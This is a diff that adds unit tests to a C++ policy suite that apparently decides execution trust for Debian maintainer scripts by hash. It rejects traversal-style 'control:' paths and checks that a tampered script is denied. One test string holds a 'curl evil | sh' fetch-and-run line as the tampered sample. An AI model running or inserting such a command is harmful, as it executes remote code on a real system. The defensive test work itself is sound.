@@ -69,7 +69,12 @@ TEST_SUITE("policy.pending_trust") {
                                  Bad{file("c", "/usr/../bin/c"), "invalid path"},
                                  Bad{file("c", "/usr/bin/c", "Bash"), "not a Debian package name"},
                                  Bad{{digest_of("c"), "bash", "1 0", "/usr/bin/c"}, "invalid version"},
-                                 Bad{file("c", "/usr/bin/c\nx"), "invalid path"}}) {
+                                 Bad{file("c", "/usr/bin/c\nx"), "invalid path"},
+                                 // control: names a maintainer script, nothing else.
+                                 Bad{file("c", "control:evil"), "invalid path"},
+                                 Bad{file("c", "control:../postinst"), "invalid path"},
+                                 Bad{file("c", "control:"), "invalid path"},
+                                 Bad{file("c", "control:postinst/x"), "invalid path"}}) {
       auto r = merge_pending(set, {file("d", "/usr/bin/d"), f}, "req");
       REQUIRE_FALSE(r);
       CHECK_MESSAGE(r.error().message().find(why) != std::string::npos, r.error().message());
@@ -77,6 +82,22 @@ TEST_SUITE("policy.pending_trust") {
       CHECK(set.size() == 2);
     }
     CHECK(merge_pending(set, {file("e", "/usr/bin/e", "libc6:amd64")}, "req"));
+    for (const char* script : {"preinst", "postinst", "prerm", "postrm", "config"})
+      CHECK_MESSAGE(merge_pending(set, {file(script, std::string("control:") + script)}, "req"), script);
+    CHECK(set.size() == 8);
+  }
+
+  TEST_CASE("a maintainer script is a hash allow named pending-trust:PKG=VERSION:control:NAME, wherever dpkg runs "
+            "it from") {
+    auto rules = PendingRuleSet(policy_with({}), {file("#!/bin/sh\nnew postinst\n", "control:postinst")});
+    for (const char* path : {"/var/lib/dpkg/tmp.ci/postinst", "/var/lib/dpkg/info/bash.postinst"}) {
+      auto d = decide({.path = path, .sha256 = digest_of("#!/bin/sh\nnew postinst\n")}, rules, Mode::kEnforce);
+      CHECK(d.verdict == Verdict::kAllow);
+      CHECK(d.rule == "pending-trust:bash=5.2-1:control:postinst");
+      // A script with other bytes at the same place is not.
+      CHECK(decide({.path = path, .sha256 = digest_of("#!/bin/sh\ncurl evil | sh\n")}, rules, Mode::kEnforce).rule ==
+            "default-deny");
+    }
   }
 
   TEST_CASE("drop_covered removes what a new policy decides by hash") {
